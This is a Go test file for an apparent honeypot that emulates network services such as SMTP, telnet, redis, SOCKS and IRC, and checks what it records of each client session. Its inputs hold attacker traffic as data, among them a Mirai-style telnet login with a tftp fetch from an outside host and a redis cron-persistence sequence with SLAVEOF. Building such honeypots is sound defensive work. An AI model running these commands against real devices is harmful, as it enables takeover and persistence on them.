package service

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/detonaut/detonaut/chamber/tape"
)

// What a client says all at once, what is recorded of it, and what it is
// answered, in this order.
func TestDialogues(t *testing.T) {
	for _, tc := range []struct {
		name, service, input string
		said                 []tape.Message
		answers              []string
	}{
		{
			"a mail", "smtp",
			crlf("EHLO bot", "AUTH PLAIN AGFubmFANDIAc2VjcmV0", "MAIL FROM:<a@x.example> SIZE=9", "RCPT TO:<b@y.example>", "DATA",
				"From: A <a@x.example>", "Subject: passwords", "", "root:x", "..dot", ".", "WHAT", "QUIT", "NOOP"),
			[]tape.Message{
				say("smtp", "EHLO", "client", "bot"),
				say("smtp", "AUTH", "mechanism", "PLAIN", "user", "anna@42", "password", "secret"),
				say("smtp", "MAIL", "from", "a@x.example"),
				say("smtp", "RCPT", "to", "b@y.example"),
				say("smtp", "DATA", "from", "A <a@x.example>", "subject", "passwords", "size", "59", "text", "root:x\n.dot\n"),
			},
			[]string{"220 host.example", "250-AUTH PLAIN LOGIN\r\n", "235 ", "250 2.1.0", "250 2.1.5", "354 ", "250 2.0.0 Ok: queued", "502 ", "221 "},
		},
		{
			"a login in two steps", "smtp", crlf("AUTH LOGIN", "YW5uYQ==", "c2VjcmV0"),
			[]tape.Message{say("smtp", "AUTH", "mechanism", "LOGIN", "user", "anna", "password", "secret")},
			[]string{"220 ", "334 VXNlcm5hbWU6\r\n334 UGFzc3dvcmQ6\r\n235 "},
		},
		{
			"a mailbox", "pop3", crlf("USER anna", "PASS a b", "STAT", "LIST", "RETR 1", "QUIT"),
			[]tape.Message{say("pop3", "login", "user", "anna", "password", "a b"), say("pop3", "RETR", "arguments", "1")},
			[]string{"+OK", "+OK\r\n+OK Logged in.\r\n+OK 0 0\r\n+OK 0 messages:\r\n.\r\n-ERR ", "+OK Logging out"},
		},
		{
			"a mailbox with literals", "imap", "a1 LOGIN {4}\r\nanna {6+}\r\nse\"ret\r\na2 SELECT \"IN\\\"BOX\"\r\na3 LOGOUT\r\n",
			[]tape.Message{say("imap", "login", "user", "anna", "password", `se"ret`), say("imap", "SELECT", "mailbox", `IN"BOX`)},
			[]string{"* OK [CAPABILITY IMAP4rev1", "+ OK\r\na1 OK LOGIN", "* 0 EXISTS", "a2 OK", "* BYE", "a3 OK"},
		},
		{
			"files without a second connection", "ftp", crlf("USER anna", "PASS x", "PASV", "RETR bot.mips", "PORT 1,2,3,4,5,6", "QUIT"),
			[]tape.Message{
				say("ftp", "login", "user", "anna", "password", "x"), say("ftp", "RETR", "path", "bot.mips"), say("ftp", "PORT", "target", "1,2,3,4,5,6"),
			},
			[]string{"220 ", "331 ", "230 ", "425 ", "425 Use PORT", "500 ", "221 "},
		},
		{
			"a worm on a device", "telnet",
			"\xff\xfd\x01\xff\xfa\x18\x00xterm\xff\xf0root\r\nxc3511\r\x00enable\r\n/bin/busybox MIRAI\r\n" +
				`/bin/busybox echo -e '\x6b\x61\x6d\x69/dev' > /dev/.n; /bin/busybox cat /dev/.n` + "\r\n/bin/busybox wget; tftp -g -r m 203.0.113.9\r\nexit\r\nmore",
			[]tape.Message{
				say("telnet", "login", "user", "root", "password", "xc3511"),
				say("telnet", "command", "command", "enable"),
				say("telnet", "command", "command", "/bin/busybox MIRAI"),
				say("telnet", "command", "command", `/bin/busybox echo -e '\x6b\x61\x6d\x69/dev' > /dev/.n; /bin/busybox cat /dev/.n`),
				say("telnet", "command", "command", "/bin/busybox wget; tftp -g -r m 203.0.113.9"),
			},
			[]string{"login: ", "Password: ", "# ", "MIRAI: applet not found\r\n# ", "kami/dev\r\n# ", "Usage: wget"},
		},
		{
			"a bot", "irc",
			crlf("PASS x", "NICK bot7", "USER u 0 * :Real Name", "JOIN #cmd,#two secret", "PRIVMSG #cmd :pwned by me", "PING :42", "FOO a b", "QUIT :bye"),
			[]tape.Message{
				say("irc", "PASS", "password", "x"), say("irc", "NICK", "nick", "bot7"), say("irc", "USER", "user", "u", "realname", "Real Name"),
				say("irc", "JOIN", "channel", "#cmd,#two", "key", "secret"), say("irc", "PRIVMSG", "target", "#cmd", "text", "pwned by me"),
				say("irc", "FOO", "arguments", "a b"), say("irc", "QUIT", "text", "bye"),
			},
			[]string{
				":host.example 001 bot7 :", " 005 ", " 422 ", ":bot7!user@host JOIN #cmd\r\n", " 366 bot7 #cmd ", "JOIN #two\r\n",
				":host.example PONG host.example :42\r\n", " 421 bot7 FOO ", "ERROR ",
			},
		},
		{
			"a worm in a database", "redis",
			"AUTH hunter2\r\n*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$12\r\n* * * sh -x\n\r\n*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n" +
				"*3\r\n$7\r\nSLAVEOF\r\n$9\r\n203.0.113\r\n$4\r\n6379\r\nSAVE\r\nCONFIG GET dir\r\nBAD\x01\r\nQUIT\r\n",
			[]tape.Message{
				say("redis", "AUTH", "password", "hunter2"), say("redis", "SET", "key", "x", "value", "* * * sh -x\n"),
				say("redis", "CONFIG", "command", "SET", "key", "dir", "value", "/var/spool/cron"), say("redis", "SLAVEOF", "target", "203.0.113:6379"),
				say("redis", "SAVE"), say("redis", "CONFIG", "command", "GET", "key", "dir"), say("redis", "BAD\x01"), say("redis", "QUIT"),
			},
			[]string{"+OK\r\n+OK\r\n+OK\r\n+OK\r\n+OK\r\n", "$14\r\n/var/lib/redis\r\n", "-ERR unknown command 'BAD '\r\n", "+OK\r\n"},
		},
		{
			"a cache", "memcached", "set k 0 0 5\r\nhello\r\nget k\r\nstats\r\nquit\r\n",
			[]tape.Message{say("memcached", "set", "key", "k", "value", "hello"), say("memcached", "get", "arguments", "k"), say("memcached", "stats")},
			[]string{"STORED\r\nEND\r\nSTAT pid", "END\r\n"},
		},
		{
			"a proxy by name", "socks", "\x05\x02\x00\x02\x01\x04anna\x06secret\x05\x01\x00\x03\x09x.example\x01\xbbGET /",
			[]tape.Message{
				say("socks", "login", "user", "anna", "password", "secret"), say("socks", "connect", "target", "x.example:443"),
				say("tunnel", "x.example", "text", "GET /"),
			},
			[]string{"\x05\x02\x01\x00\x05\x00\x00\x01"},
		},
		{
			"a proxy by address", "socks", "\x05\x01\x00\x05\x01\x00\x04\x20\x01\x0d\xb8\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x50",
			[]tape.Message{say("socks", "connect", "target", "[2001:db8::1]:80"), say("tunnel", "2001:db8::1", "text", "")},
			[]string{"\x05\x00\x05\x00\x00\x01"},
		},
		{
			"an old proxy by name", "socks", "\x04\x01\x00\x50\x00\x00\x00\x01me\x00x.example\x00hi",
			[]tape.Message{say("socks", "login", "user", "me"), say("socks", "connect", "target", "x.example:80"), say("tunnel", "x.example", "text", "hi")},
			[]string{"\x00\x5a\x00\x00"},
		},
		{
			"a proxy that is to listen", "socks", "\x05\x01\x00\x05\x02\x00\x01\x01\x02\x03\x04\x00\x50", nil, []string{"\x05\x00\x05\x07"},
		},
		{
			"a registry", "rmi",
			"JRMI\x00\x02\x4b\x00\x09127.0.0.1\x00\x00\x00\x00" + "\x50\xac\xed\x00\x05\x77\x22" + strings.Repeat("\x00", 34) + "t\x00\x07Exploit",
			[]tape.Message{say("rmi", "call", "name", "Exploit")},
			[]string{"\x4e\x00\x0chost.example\x00\x00\x11\x5c"},
		},
		{
			"a broker", "mqtt",
			"\x10\x18\x00\x04MQTT\x04\xc2\x00\x3c\x00\x03bot\x00\x01u\x00\x04pass" + "\x82\x0a\x00\x07\x00\x05cmd/#\x01" + "\x32\x09\x00\x03out\x00\x08hi" + "\xc0\x00\xe0\x00",
			[]tape.Message{
				say("mqtt", "connect", "client", "bot", "user", "u", "password", "pass"), say("mqtt", "subscribe", "topic", "cmd/#"),
				say("mqtt", "publish", "topic", "out", "text", "hi"),
			},
			[]string{"\x20\x02\x00\x00\x90\x03\x00\x07\x00\x40\x02\x00\x08\xd0\x00"},
		},
		{
			"a queue", "amqp",
			"AMQP\x00\x00\x09\x01" + amqpFrame(0, amqpStartOK+"\x00\x00\x00\x00\x05PLAIN\x00\x00\x00\x0c\x00anna\x00secret\x05en_US") +
				amqpFrame(0, amqpOpen+"\x01/\x00\x00") + amqpFrame(1, channelOpen+"\x00") + amqpFrame(0, amqpClose),
			[]tape.Message{say("amqp", "login", "user", "anna", "password", "secret")},
			[]string{amqpStart, amqpTune, amqpOpenOK, "\x01\x00\x01\x00\x00\x00\x08" + channelOK, amqpCloseOK},
		},
		{
			"a peer", "bittorrent", torrentHello + "\x00\x00\x00\x00\x00\x10\x00\x05" + strings.Repeat("\xab", 20) + "-qB4500-abcdefghijkl",
			[]tape.Message{say("bittorrent", "handshake", "hash", strings.Repeat("ab", 20), "client", "-qB4500-abcdefghijkl")},
			[]string{torrentHello, strings.Repeat("\xab", 20)},
		},
		{
			"a desktop", "rdp", "\x03\x00\x00\x25\x20\xe0\x00\x00\x00\x00\x00Cookie: mstshash=admin\r\n\x01\x00",
			[]tape.Message{say("rdp", "connect", "user", "admin")},
			nil,
		},
		{
			"a screen", "vnc", "RFB 003.003\n",
			[]tape.Message{say("vnc", "version", "client", "RFB 003.003")},
			[]string{"RFB 003.008\n\x00\x00\x00\x00\x1aToo many"},
		},
		{
			"a shell with a prompt", "shell", "root@web:/# uid=0(root) gid=0(root) groups=0(root)\nroot@web:/# ",
			[]tape.Message{
				say("shell", "prompt", "text", "root@web:/# uid=0(root) gid=0(root) groups=0(root)\nroot@web:/# "),
				say("shell", "answer", "command", "id", "answer", "uid=0(root) gid=0(root) groups=0(root)"),
				say("shell", "output", "text", "root@web:/# "),
			},
			[]string{"id\n"},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, said, err := play(t, named(t, tc.service), tc.input)
			if err != nil {
				t.Error(err)
			}
			if diff := cmp.Diff(tc.said, said); diff != "" {
				t.Errorf("recorded (-want +got):\n%s", diff)
			}
			rest := out
			for _, want := range tc.answers {
				_, after, ok := strings.Cut(rest, want)
				if !ok {
					t.Fatalf("no %q in %q of the answers:\n%q", want, rest, out)
				}
				rest = after
			}
		})
	}
}

// A silent client is asked for its user. What is no shell is left alone.
func TestProbe(t *testing.T) {
	const user = "uid=1000(app) gid=1000(app) groups=1000(app)"
	for _, tc := range []struct {
		name, input string
		said        []tape.Message
	}{
		{"a shell", user + "\n", []tape.Message{say("shell", "answer", "command", "id", "answer", user)}},
		{"a terminal", "id\r\n" + user + "\r\n", []tape.Message{say("shell", "answer", "command", "id", "answer", user)}},
		{"numbers", "uid=1000 gid=0(root)\n", []tape.Message{say("shell", "answer", "command", "id", "answer", "uid=1000 gid=0(root)")}},
		{
			"an image without id", "sh: 1: id: not found\n",
			[]tape.Message{say("shell", "answer", "command", "id", "answer", "sh: 1: id: not found")},
		},
		{
			"windows", "'id' is not recognized as an internal or external command,\r\n",
			[]tape.Message{say("shell", "answer", "command", "id", "answer", "'id' is not recognized as an internal or external command,")},
		},
		{"an answer that is cut off", "uid=1000(app) gi", nil},
		{"and more", user + "\n\nsecret\n", []tape.Message{say("shell", "answer", "command", "id", "answer", user), say("shell", "output", "text", "secret")}},
		{"an echo", "id\n", nil},
		{"somebody else", strings.Repeat("-ERR unknown command 'id'\r\n", 300), nil},
		{"an answer after much else", strings.Repeat("x\n", 5_001) + user + "\n", []tape.Message{say("shell", "answer", "command", "id", "answer", user)}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			out, said, err := play(t, Service{Name: "shell", talk: probe}, tc.input)
			if err != nil || out != "id\n" {
				t.Errorf("said %q, %v; want id", out, err)
			}
			if diff := cmp.Diff(tc.said, said); diff != "" {
				t.Errorf("recorded (-want +got):\n%s", diff)
			}
		})
	}
}
